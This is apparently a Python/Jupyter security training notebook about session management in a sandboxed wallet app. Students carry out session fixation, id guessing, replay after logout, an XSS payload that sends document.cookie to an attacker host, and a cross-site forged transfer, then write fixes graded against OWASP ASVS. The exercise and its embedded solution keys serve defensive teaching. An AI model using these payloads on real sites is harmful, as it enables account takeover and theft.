# ---
# jupyter:
#   jupytext:
#     text_representation:
#       extension: .py
#       format_name: percent
# ---

# %% [markdown]
# # 03 · Sessions — server-side state and the cookie that points to it
#
# *Workflow step 2: choose an authentication strategy — here, server-side sessions.*
# Standards: [OWASP Session Management Cheat
# Sheet](https://cheatsheetseries.owasp.org/cheatsheets/Session_Management_Cheat_Sheet.html),
# OWASP ASVS 5.0 V7.2 (session tokens), V7.3 (timeouts), V7.4 (termination) and V3.3 (cookie
# setup), [RFC 6265bis](https://datatracker.ietf.org/doc/draft-ietf-httpbis-rfc6265bis/)
# (cookies, `SameSite`, the `__Host-` prefix).
#
# The lab app is a small team wallet: log in, see who you are, send money. Its sessions are
# home-made. You will take over sessions four different ways — two of them in a real browser —
# and then write the five functions that make its session management sound.

# %%
import httpx

import labkit
from labkit.attacks import sessions as attack
from labkit.browser import find_chromium, run_in_browser
from labkit.sandbox.server import Sandbox

lab = labkit.open_lab("03-sessions")
alice, carol = lab.users["alice"], lab.users["carol"]
print("session store:", lab.facts["session-store"])
lab

# %% [markdown]
# ## Learn
#
# **A session is state on the server; the cookie only holds its name.** At login the server
# stores "this visitor is alice" under a random id and hands the browser that id in a cookie.
# Every later request brings the cookie back. Whoever presents the id *is* alice — so the id
# must be impossible to guess (ASVS 7.2.3: at least 128 bits from a CSPRNG), must change when
# the user logs in or gains privileges (7.2.4), must expire (7.3.1 idle, 7.3.2 absolute), and
# must die on the server at logout (7.4.1).
#
# **The cookie's attributes decide who can use it.** `HttpOnly` hides it from scripts,
# `Secure` keeps it off plain HTTP, `SameSite=Strict` keeps other sites from making the
# browser send it, and the `__Host-` name prefix (Secure, `Path=/`, no `Domain`) stops a
# sibling subdomain from planting or shadowing it (ASVS 3.3.1–3.3.4).
#
# The app keeps its sessions in a table of its SQLite database — or in a real Redis when
# `LABKIT_REDIS_URL` is set, as several app processes would share them. The catalogue's
# pattern (Node's express-session with a Redis store):
#
# ```ts
# app.use(session({
#   store: new RedisStore({ client: redisClient }),
#   secret: process.env.SESSION_SECRET!,
#   resave: false,
#   saveUninitialized: false,
#   cookie: { httpOnly: true, secure: process.env.NODE_ENV === "production",
#             sameSite: "strict", maxAge: 24 * 60 * 60 * 1000 },
# }));
# ```
#
# A browser is two things to this lab: a cookie jar and a place where scripts run. Below, each
# "browser" is its own `httpx.Client` (its own jar) — until the attacks that need a real one.

# %%
first_visit = httpx.get(lab.url + "/")
print(first_visit.headers["set-cookie"])

# %% [markdown]
# Every visitor gets a session before logging in (the app would keep a basket in it). Notice
# the cookie: a small number, and no attributes at all.
#
# ## Attack 1 — session fixation
#
# If the id a browser had *before* login is still the id *after* login, then anyone who knew
# it beforehand is logged in too. The attacker fetches a fresh id from the site, then plants
# it in the victim's browser — through a sibling subdomain that sets a cookie for the parent
# domain (RFC 6265bis §8.6, "weak integrity"), an injected script, a shared computer, or a
# link carrying the id. Then the attacker waits for the victim to log in.
#
# Write `fixate(site, email, password)`: as the attacker, visit `site` and take the session id
# it hands you; then, as the victim's browser carrying that id, log in with `email` and
# `password`; return the planted id. Success looks like this: after the victim's login, the
# attacker's id opens the victim's account on `/api/me`. You will replay the same function
# against your fix later.
#
# Two httpx details. Each `httpx.Client` is its own cookie jar — one for the attacker, one
# for the victim. To plant an id, send it yourself: `headers={"Cookie": f"sessionid={id}"}`.
# (`httpx.Client(cookies={"sessionid": id})` also sends it, but the jar then holds two
# `sessionid` cookies — yours, for any host, and the one the login sets for 127.0.0.1 — and
# `client.cookies["sessionid"]` raises `CookieConflict`.)


# %% labkit={"answer": "fixation"}
def fixate(site: str, email: str, password: str) -> str | None:
    ### BEGIN SOLUTION
    with httpx.Client(base_url=site) as attacker:
        planted = attacker.get("/").cookies["sessionid"]
    httpx.post(
        site + "/api/auth/login",
        json={"email": email, "password": password},
        headers={"Cookie": f"sessionid={planted}"},
    )
    return planted
    ### STUB
    return None  # TODO: take an id as the attacker, log the victim in carrying it, return it
    ### END SOLUTION


planted = fixate(lab.url, alice.email, alice.password)
me = httpx.get(lab.url + "/api/me", headers={"cookie": f"sessionid={planted}"})
print("the attacker's id", planted, "asks who it is:", me.status_code, me.json())

# %% labkit={"check": "fixation"}
lab.check("fixation", planted)

# %% [markdown]
# ## Attack 2 — predictable ids
#
# Alice and Bob logged in before you arrived. Log in as carol and look at your own id.

# %%
login = httpx.post(
    lab.url + "/api/auth/login", json={"email": carol.email, "password": carol.password}
)
my_id = login.cookies["sessionid"]
print("carol's session id:", my_id)

# %% [markdown]
# Your id is a small number, like the one `first_visit` received: what did the visitors just
# before you receive? Try the ids around yours on `/api/me` (send each as the `sessionid`
# cookie) and store the ids that open *someone else's* account in `hijacked`, a list of
# strings. Success: `/api/me` answers 200 with alice's (or bob's) email for them.

# %% labkit={"answer": "predict-ids"}
### BEGIN SOLUTION
hijacked = []
with httpx.Client(base_url=lab.url) as probe:
    for number in range(int(my_id) - 25, int(my_id) + 26):
        me = probe.get("/api/me", headers={"Cookie": f"sessionid={number}"})
        if me.status_code == 200 and me.json()["email"] != carol.email:
            hijacked.append(str(number))
### STUB
hijacked = []  # TODO: try the ids around yours, keep the ones that open someone else's account
### END SOLUTION
print("other people's sessions:", hijacked)

# %% labkit={"check": "predict-ids"}
lab.check("predict-ids", hijacked)

# %% [markdown]
# An attacker does not need to *see* a counter to spot one. A small sequencer takes a sample of
# ids and estimates how many bits of each are really random:

# %%
sample = []
with httpx.Client(base_url=lab.url) as browser:
    for _ in range(100):
        browser.cookies.clear()  # a new visitor each time
        sample.append(browser.get("/").cookies["sessionid"])
print(attack.analyse_ids(sample))

# %% [markdown]
# ## Attack 3 — the session outlives the logout
#
# Log in as carol, log out, and replay the old id. The logout answer clears the cookie — in
# *this* browser. Any copy of the id (stolen, cached by a proxy, left on a shared computer)
# is another matter. Store the logged-out id in `logged_out`.

# %% labkit={"answer": "after-logout"}
### BEGIN SOLUTION
session = httpx.Client(base_url=lab.url)
session.post("/api/auth/login", json={"email": carol.email, "password": carol.password})
logged_out = session.cookies["sessionid"]
bye = session.post("/api/auth/logout")
print("logout says:", bye.json(), "| Set-Cookie:", bye.headers["set-cookie"])
### STUB
logged_out = None  # TODO: log in as carol, keep the id, log out
### END SOLUTION
again = httpx.get(lab.url + "/api/me", headers={"cookie": f"sessionid={logged_out}"})
print("replaying it:", again.status_code, again.json())

# %% labkit={"check": "after-logout"}
lab.check("after-logout", logged_out)

# %% [markdown]
# ## Attacks 4 and 5 — in a real browser
#
# The last two attacks are about what a *browser* does with the cookie, so they run in one:
# headless Chromium, next to this kernel. Two sites are needed — the wallet and the
# attacker's. Two ports on 127.0.0.1 are different *origins* but the same *site*, and SameSite
# is about sites; so the victim reaches the wallet as `http://localhost:<port>` while the
# attacker's server is `http://127.0.0.1:<port>`. Chromium treats both names as potentially
# trustworthy even over plain HTTP, so `Secure` cookies work on both. (Checked here: on
# `http://victim.test`, mapped to the same server, Chromium dropped every `Secure` cookie —
# `Secure` means HTTPS, with the loopback names as the only exception.)
#
# No browser installed? The cells below say so and show a **simulation** instead: the cookie
# rules applied by a small function. The checks need the real thing.

# %%
HAVE_BROWSER = find_chromium() is not None
evil = Sandbox(attack.attacker_site(), name="evil").start()
victim_url = attack.other_site(lab.url)
print("the wallet, as the victim reaches it:", victim_url)
print("the attacker's site:                 ", evil.url)
print("real browser:", find_chromium() or "none — the cells below simulate")

# %% [markdown]
# ### Attack 4 — a script reads the cookie
#
# An XSS bug anywhere on the site lets the attacker run a script in the victim's page. The lab
# plays that bug with a page that renders its `html` parameter raw (`/api/_lab/xss`; lab 12
# is about preventing such bugs). Write `script`, the JavaScript the bug will run in alice's
# page: a line or two that read `document.cookie` and send it to the attacker's
# `evil.url + "/collect?c=..."` (any request the browser makes on its own will do — an
# image, `fetch`, a redirect; remember to URL-encode the value). Success: the attacker's
# `/loot` holds alice's session cookie.

# %% labkit={"answer": "steal-cookie"}
### BEGIN SOLUTION
script = f"""
new Image().src = "{evil.url}/collect?c=" + encodeURIComponent(document.cookie);
"""
### STUB
script = "console.log('hello')"  # TODO: send document.cookie to evil.url + "/collect?c="
### END SOLUTION
payload = f"<script>{script}</script>"
print(payload)

# %% [markdown]
# Alice signs in on the wallet's home page, then opens the page carrying your script:

# %%
if HAVE_BROWSER:
    seen = run_in_browser(
        lambda browser: attack.browser_xss(
            browser, victim_url, alice.email, alice.password, payload
        )
    )
    print(
        "signed in:", seen.signed_in, "| document.cookie on the page:", repr(seen.document_cookie)
    )
else:
    print(attack.simulate_browser(first_visit.headers["set-cookie"]))
loot = evil.client.get("/loot").json()
print("the attacker received:", loot)
stolen = loot[-1] if loot else None

# %% [markdown]
# The check replays what the attacker received last (`stolen`) as a cookie on the wallet:

# %% labkit={"check": "steal-cookie"}
lab.check("steal-cookie", stolen)

# %% [markdown]
# ### Attack 5 — another site's form rides the cookie
#
# Alice is signed in. She follows a link to the attacker's page ("You won a prize!"), whose
# hidden form posts a transfer to the wallet and submits itself. The browser attaches the
# wallet's cookie to that POST unless `SameSite` says otherwise.

# %%
prize_page = attack.csrf_url(evil.url, victim_url + "/api/transfer", to="mallory", amount=500)
if HAVE_BROWSER:
    outcome = run_in_browser(
        lambda browser: attack.browser_csrf(
            browser, victim_url, alice.email, alice.password, prize_page
        )
    )
    print("the form landed with:", outcome.landing_status, outcome.landing_text)
else:
    print(attack.simulate_browser(first_visit.headers["set-cookie"], cookie_age_s=5))
print("last transfers:", lab.client.get("/api/_lab/transfers").json()[-2:])

# %% [markdown]
# The transfer went through, and the wallet even recorded `Sec-Fetch-Site: cross-site` — the
# browser said where the request came from; the app did not listen.
#
# What the browser did here deserves precision. The cookie has **no** `SameSite` attribute.
# Chromium then applies "Lax by default" — *except* that a cookie younger than two minutes is
# still sent on a cross-site top-level POST (the "Lax+POST" exception, kept so single-sign-on
# flows that POST back keep working). Alice logged in seconds ago, so her cookie rode along.
# Checked in this lab's Chromium: the same POST 125 seconds after login arrived without the
# cookie; a cookie with `SameSite=Lax` or `Strict` was never sent; one with `SameSite=None;
# Secure` always was. Firefox and Safari, at the time of writing, do not apply Lax by
# default at all. A missing `SameSite` is therefore a bet on the browser and on the clock —
# set it explicitly.
#
# Hand in the recipient of the forged transfer as `recipient`.

# %% labkit={"answer": "csrf"}
### BEGIN SOLUTION
recipient = "mallory"
### STUB
recipient = None  # TODO: whom did the forged transfer pay?
### END SOLUTION

# %% labkit={"check": "csrf"}
lab.check("csrf", recipient)

# %% [markdown]
# ## Fix 1 — ids nobody can guess
#
# Write `new_session_id() -> str`: at least 128 bits from the `secrets` module (ASVS 7.2.3).
# `uuid4()` is not enough (122 random bits), `random` is not a CSPRNG, and a timestamp is a
# counter. `secrets.token_urlsafe(32)` gives 256 bits in 43 cookie-safe characters.
#
# The check plays the attacker: it collects 200 of your ids in a row and tries to compute
# the next one — it rebuilds Python's Mersenne Twister from 624 of its outputs (156 ids of
# `random.getrandbits(128)`), tries counters and clock readings as seeds of `random.Random`
# and as inputs of MD5/SHA hashes, and reads `uuid1` for what it is (a clock and a MAC address).
#
# <!-- labkit:rules id-entropy -->

# %% labkit={"answer": "id-entropy"}
import secrets


def new_session_id() -> str:
    ### BEGIN SOLUTION
    return secrets.token_urlsafe(32)
    ### END SOLUTION


# %% labkit={"check": "id-entropy"}
lab.check("id-entropy", new_session_id=new_session_id)

# %% [markdown]
# ## Fix 2 — a new id at login and at every privilege change
#
# Write `start_session(store, old_id, record) -> str`. The app calls it when a user logs in,
# and when a signed-in user re-enters the password to send more than 1,000 (a privilege
# change: ASVS 7.2.4 and 7.5.3). `old_id` is the id the browser brought (or `None`); `record`
# is what to remember. The store has `store.get(id)`, `store.put(id, record)` and
# `store.delete(id)`. Whatever `old_id` is — planted, or the server's own — it must not
# survive: delete it, store the record under a brand-new id, return that id.
#
# <!-- labkit:rules no-fixation -->


# %% labkit={"answer": "no-fixation"}
def start_session(store, old_id, record) -> str:
    ### BEGIN SOLUTION
    if old_id:
        store.delete(old_id)
    session_id = new_session_id()
    store.put(session_id, record)
    return session_id
    ### END SOLUTION


# %% labkit={"check": "no-fixation"}
lab.check("no-fixation", start_session=start_session)

# %% [markdown]
# Your `fixate` from Attack 1, replayed against a wallet running your `start_session`:

# %%
fixed = lab.patched(start_session=start_session)
user = fixed.client.post("/api/_lab/users").json()  # an account on this new wallet
replanted = fixate(fixed.url, user["email"], user["password"])
me = httpx.get(fixed.url + "/api/me", headers={"Cookie": f"sessionid={replanted}"})
print("your planted id after the victim's login:", me.status_code, me.json())

# %% [markdown]
# ## Fix 3 — the cookie
#
# Write `session_cookie(session_id) -> str`, the whole `Set-Cookie` value:
# `__Host-session=<id>; Path=/; Secure; HttpOnly; SameSite=Strict`. No `Max-Age` is needed:
# the cookie then lasts as long as the browser session, and the server enforces the real
# timeouts. (`SameSite=Lax` also stops this form POST and the check accepts it; a wallet has
# no reason to keep the session on links from other sites, so the reference uses `Strict`.)
#
# <!-- labkit:rules cookie-flags -->


# %% labkit={"answer": "cookie-flags"}
def session_cookie(session_id: str) -> str:
    ### BEGIN SOLUTION
    return f"__Host-session={session_id}; Path=/; Secure; HttpOnly; SameSite=Strict"
    ### END SOLUTION


# %% labkit={"check": "cookie-flags"}
lab.check("cookie-flags", session_cookie=session_cookie)

# %% [markdown]
# Replay both browser attacks — with your script from Attack 4 — against a wallet running
# your cookie:

# %%
fixed = lab.patched(session_cookie=session_cookie)
fixed_url = attack.other_site(fixed.url)
user = fixed.client.post("/api/_lab/users").json()  # an account on this new wallet
if HAVE_BROWSER:
    seen, outcome = run_in_browser(
        lambda browser: (
            attack.browser_xss(
                browser,
                fixed_url,
                user["email"],
                user["password"],
                payload,  # your script from Attack 4
            ),
            attack.browser_csrf(
                browser,
                fixed_url,
                user["email"],
                user["password"],
                attack.csrf_url(evil.url, fixed_url + "/api/transfer", to="mallory", amount=500),
            ),
        )
    )
    print("signed in:", seen.signed_in, "| document.cookie:", repr(seen.document_cookie))
    print("the prize page's form landed with:", outcome.landing_status, outcome.landing_text)
else:
    print(attack.simulate_browser(session_cookie("example-id")))

# %% [markdown]
# The user still signs in and uses the wallet; the script sees an empty `document.cookie`; the
# cross-site form arrives without the cookie (401). The check runs the same in its own
# Chromium:
#
# <!-- labkit:rules cookie-browser -->

# %% labkit={"check": "cookie-browser"}
lab.check("cookie-browser", session_cookie=session_cookie)

# %% [markdown]
# ## Fix 4 — logout ends the session on the server
#
# Write `end_session(store, session_id) -> None`. The app already tells the browser to forget
# the cookie; your job is the server side (ASVS 7.4.1).
#
# <!-- labkit:rules logout -->


# %% labkit={"answer": "logout"}
def end_session(store, session_id: str) -> None:
    ### BEGIN SOLUTION
    store.delete(session_id)
    ### END SOLUTION


# %% labkit={"check": "logout"}
lab.check("logout", end_session=end_session)

# %% [markdown]
# ## Fix 5 — idle and absolute timeouts
#
# Write `session_expired(created, last_seen, now) -> bool` (seconds since the epoch). Two
# clocks: time since the last request (idle) and time since login (absolute). OWASP suggests
# 2–5 minutes idle for high-value applications and 15–30 for low-risk ones, and an absolute
# limit of 4–8 hours for an office-day application; ASVS 7.3 asks you to document your choice.
# The check accepts an idle limit between 2 and 30 minutes and an absolute limit of at most 12
# hours; it moves the app's clock forward instead of waiting.
#
# <!-- labkit:rules timeouts -->

# %% labkit={"answer": "timeouts"}
### BEGIN SOLUTION
IDLE_TIMEOUT = 15 * 60
ABSOLUTE_TIMEOUT = 8 * 60 * 60
### STUB
# TODO: your two limits, in seconds
### END SOLUTION


def session_expired(created: float, last_seen: float, now: float) -> bool:
    ### BEGIN SOLUTION
    return now - last_seen >= IDLE_TIMEOUT or now - created >= ABSOLUTE_TIMEOUT
    ### END SOLUTION


# %% labkit={"check": "timeouts"}
lab.check("timeouts", session_expired=session_expired)

# %% [markdown]
# ## Verify — replay every attack
#
# Your five functions together are the wallet's new session management. The check replays the
# whole battery against them — a sample of 200 ids through the sequencer, planted and
# server-issued ids at login and at a privilege change, the cookie's attributes, the script
# and the cross-site form in Chromium, the replay after logout, and the clock moved past
# your timeouts — while a real user logs in, works, elevates and logs out. Every rule of the
# five fixes above applies:
#
# <!-- labkit:rules verify -->

# %% labkit={"check": "verify"}
lab.check(
    "verify",
    new_session_id=new_session_id,
    start_session=start_session,
    session_cookie=session_cookie,
    end_session=end_session,
    session_expired=session_expired,
)

# %% [markdown]
# ## Recap
#
# | avoid | do instead |
# | --- | --- |
# | JWT in localStorage | httpOnly secure cookie (refresh), memory (access) |
# | Rolling your own crypto | Use established libraries (jose, bcrypt) |
#
# The first row of the catalogue's table is this lab's cookie lesson: a token a script can
# read is a token an XSS can steal. The second is its id lesson: a counter, a timestamp or
# `random` is home-made randomness; `secrets` is the library.
#
# What a reviewer looks for in real code:
#
# - ids from a CSPRNG with ≥128 bits (`secrets.token_urlsafe(32)`), never counters, `random`,
#   `uuid1`, or timestamps; only their hash in the store, so a leaked store opens nothing;
# - a new id at login and at every privilege change, the old one deleted — and a framework
#   that never adopts an id it did not issue;
# - `HttpOnly; Secure; SameSite=Strict` (or `Lax`, deliberately) and the `__Host-` prefix;
#   the session id never in a URL;
# - logout and timeouts that delete the session on the server, idle *and* absolute;
# - and, beyond the cookie: SameSite is defence in depth against CSRF, not the whole defence.
#   The reference app also refuses state-changing requests whose `Sec-Fetch-Site` is
#   `cross-site` (ASVS 3.5.1; OWASP CSRF Prevention Cheat Sheet, "Fetch Metadata").

# %%
labkit.progress()

# %%
evil.stop()
lab.close()
